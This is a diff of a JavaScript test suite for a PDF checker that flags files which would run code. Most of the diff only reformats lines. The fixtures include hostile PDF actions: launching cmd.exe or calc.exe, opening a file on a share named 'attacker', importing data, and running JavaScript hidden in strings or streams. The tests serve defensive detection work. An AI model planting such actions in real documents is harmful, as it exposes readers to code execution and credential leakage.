@@ -16,9 +16,15 @@ describe('a PDF is checked for what it would run', () => {
   it('takes a clean PDF, one that opens at its first page, one with an image, and text about JavaScript', async () => {
     assert.equal(await pdfProblem(samplePdf()), undefined);
     assert.equal(await pdfProblem(samplePdf('Ana Horvat', { catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseOutlines' })), undefined);
-    const image = pdfStream(deflateSync(randomBytes(MB)), '/Type /XObject /Subtype /Image /Width 512 /Height 683 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode');
+    const image = pdfStream(
+      deflateSync(randomBytes(MB)),
+      '/Type /XObject /Subtype /Image /Width 512 /Height 683 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
+    );
     assert.equal(await pdfProblem(samplePdf('Ana Horvat', { extra: [image] })), undefined);
-    assert.equal(await pdfProblem(samplePdf('Web developer: HTML/JS, TypeScript', { catalog: '/Outlines 6 0 R', extra: ['<< /Type /Outlines /First 7 0 R /Count 0 >>'] })), undefined);
+    assert.equal(
+      await pdfProblem(samplePdf('Web developer: HTML/JS, TypeScript', { catalog: '/Outlines 6 0 R', extra: ['<< /Type /Outlines /First 7 0 R /Count 0 >>'] })),
+      undefined,
+    );
     assert.equal(await pdfProblem(samplePdf('Ana Horvat', { extra: [objectStream('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>')] })), undefined);
   });
 
@@ -45,7 +51,10 @@ describe('a PDF is checked for what it would run', () => {
 
   it('refuses a launch action, and one that opens another file', async () => {
     assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' })), 'cvPdfLaunch');
-    assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >>' })), 'cvPdfLaunch');
+    assert.equal(
+      await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >>' })),
+      'cvPdfLaunch',
+    );
   });
 
   it('refuses an embedded file', async () => {
@@ -62,7 +71,7 @@ describe('a PDF is checked for what it would run', () => {
     assert.equal(await pdfProblem(samplePdf('x', { catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' })), 'cvPdfScript');
   });
 
-  it('finds an action hidden where a reader sent by the cross-reference table would still read it: in a string or a stream\'s data', async () => {
+  it("finds an action hidden where a reader sent by the cross-reference table would still read it: in a string or a stream's data", async () => {
     assert.equal(await pdfProblem(samplePdf('x', { extra: ['(8 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj)'] })), 'cvPdfScript');
     assert.equal(await pdfProblem(samplePdf('x', { extra: [pdfStream('8 0 obj << /S /Launch /F (calc.exe) >> endobj')] })), 'cvPdfLaunch');
   });
